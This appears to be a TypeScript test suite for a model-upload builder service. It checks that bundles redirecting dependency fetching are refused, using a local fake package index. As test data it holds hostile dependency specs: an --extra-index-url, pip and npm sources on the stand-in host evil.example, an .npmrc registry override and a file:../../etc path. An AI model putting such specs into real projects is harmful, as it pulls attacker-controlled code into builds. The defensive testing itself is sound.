import { execFile } from 'node:child_process';
import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';

import { EXAMPLES, exampleZip, FakeCommandRunner } from '@ml-run/builder-image-build/testing';

import { bearer, VIEWER_TOKEN, WRITER_TOKEN } from '../../testing/fake-authorizer';
import { startTestBuilder, type TestBuilder } from '../../testing/start-test-builder';

const IRIS_MANIFEST = 'name: iris\nruntime: python\nentry: model.py\ncodeVersion: 1.0.0\n';

// A package index an attacker runs: it records every path asked of it.
async function rogueIndex(): Promise<{ url: string; hits: string[]; server: Server }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.writeHead(404).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as { port: number };
  return { url: `http://127.0.0.1:${port}/simple`, hits, server };
}

describe('uploads that choose where dependencies come from', () => {
  let sut: TestBuilder;
  let runner: FakeCommandRunner;

  beforeEach(async () => {
    runner = new FakeCommandRunner();
    sut = await startTestBuilder({ commands: runner });
  });
  afterEach(() => sut.close());

  const upload = (zip: Buffer) =>
    sut.app.inject({
      method: 'POST',
      url: '/v1/models',
      headers: { ...bearer(WRITER_TOKEN), 'content-type': 'application/zip' },
      payload: zip,
    });
  const nothingKept = async () => {
    const models = await sut.app.inject({
      method: 'GET',
      url: '/v1/models',
      headers: bearer(VIEWER_TOKEN),
    });
    expect(models.json()).toEqual({ models: [] });
    expect(await readdir(path.join(sut.dataDir, 'bundles')).catch(() => [])).toEqual([]);
    expect(runner.runs).toEqual([]);
  };

  it('refuses a requirements.txt with --extra-index-url, which pip would follow', async () => {
    const index = await rogueIndex();
    // pip's own index is a local one too: a unit test sends nothing off the machine.
    const platform = await rogueIndex();
    const env = Object.fromEntries(
      Object.entries(process.env).filter(([key]) => key !== 'PIP_FIND_LINKS'),
    );
    const requirements = `--extra-index-url ${index.url}\nmlrun-test-no-such-package\n`;
    const dir = await mkdtemp(path.join(os.tmpdir(), 'pip-control-'));
    try {
      // Positive control: pip itself fetches from the index the file names.
      await writeFile(path.join(dir, 'requirements.txt'), requirements);
      await promisify(execFile)(
        'python3',
        [
          '-m',
          'pip',
          'download',
          '--no-deps',
          '--retries',
          '0',
          '-d',
          dir,
          '-r',
          'requirements.txt',
        ],
        { cwd: dir, timeout: 60_000, env: { ...env, PIP_INDEX_URL: platform.url } },
      ).catch(() => undefined);
      expect(index.hits).toContain('/simple/mlrun-test-no-such-package/');
      index.hits.length = 0;

      const res = await upload(
        await exampleZip(EXAMPLES.iris, { 'requirements.txt': requirements }),
      );
      expect(res.statusCode).toBe(422);
      expect(res.json()).toMatchObject({
        code: 'DEPENDENCY_SOURCE_REFUSED',
        message: expect.stringMatching(
          /requirements\.txt line 1 uses the option --extra-index-url/,
        ),
      });
      await sut.buildsIdle();
      expect(index.hits).toEqual([]);
      await nothingKept();
    } finally {
      index.server.close();
      platform.server.close();
      await rm(dir, { recursive: true, force: true });
    }
  }, 90_000);

  it.each([
    ['requirements.txt', 'pkg @ https://evil.example/pkg-1.0.tar.gz\n', EXAMPLES.iris],
    ['requirements.txt', '-e git+https://evil.example/pkg.git#egg=pkg\n', EXAMPLES.iris],
    ['package.json', '{"dependencies": {"x": "git+https://evil.example/x.git"}}', EXAMPLES.echo],
    ['package.json', '{"dependencies": {"x": "file:../../etc"}}', EXAMPLES.echo],
    ['.npmrc', 'registry=https://evil.example/\n', EXAMPLES.echo],
  ])('refuses a %s that says %j', async (file, text, example) => {
    const res = await upload(await exampleZip(example, { [file]: text }));
    expect(res.statusCode).toBe(422);
    expect(res.json()).toMatchObject({ code: 'DEPENDENCY_SOURCE_REFUSED' });
    await nothingKept();
  });

  it('accepts requirements by name, and builds them wheels only', async () => {
    const res = await upload(
      await exampleZip(EXAMPLES.iris, { 'requirements.txt': 'numpy==2.1.0\n' }),
    );
    expect(res.statusCode).toBe(201);
    await sut.buildsIdle();
    expect(runner.runs[0]?.args).toContain('--only-binary=:all:');
  });

  it('refuses a manifest asking for source builds, saying how an admin allows them', async () => {
    const zip = await exampleZip(EXAMPLES.iris, {
      'ml-run.yaml': `${IRIS_MANIFEST}dependencies: { sourceBuilds: true }\n`,
      'requirements.txt': 'numpy==2.1.0\n',
    });
    const res = await upload(zip);
    expect(res.statusCode).toBe(422);
    expect(res.json()).toEqual({
      code: 'SOURCE_BUILDS_NOT_ALLOWED',
      message: expect.stringContaining('ask an admin to set MLRUN_ALLOW_SOURCE_BUILDS=true'),
    });
    await nothingKept();

    // Allowed by the admin: the same upload builds, and pip may use sdists.
    await sut.close();
    runner = new FakeCommandRunner();
    sut = await startTestBuilder({
      commands: runner,
      settings: { MLRUN_ALLOW_SOURCE_BUILDS: 'true' },
    });
    expect((await upload(zip)).statusCode).toBe(201);
    await sut.buildsIdle();
    expect(runner.runs[0]?.args).not.toContain('--only-binary=:all:');
  });
});
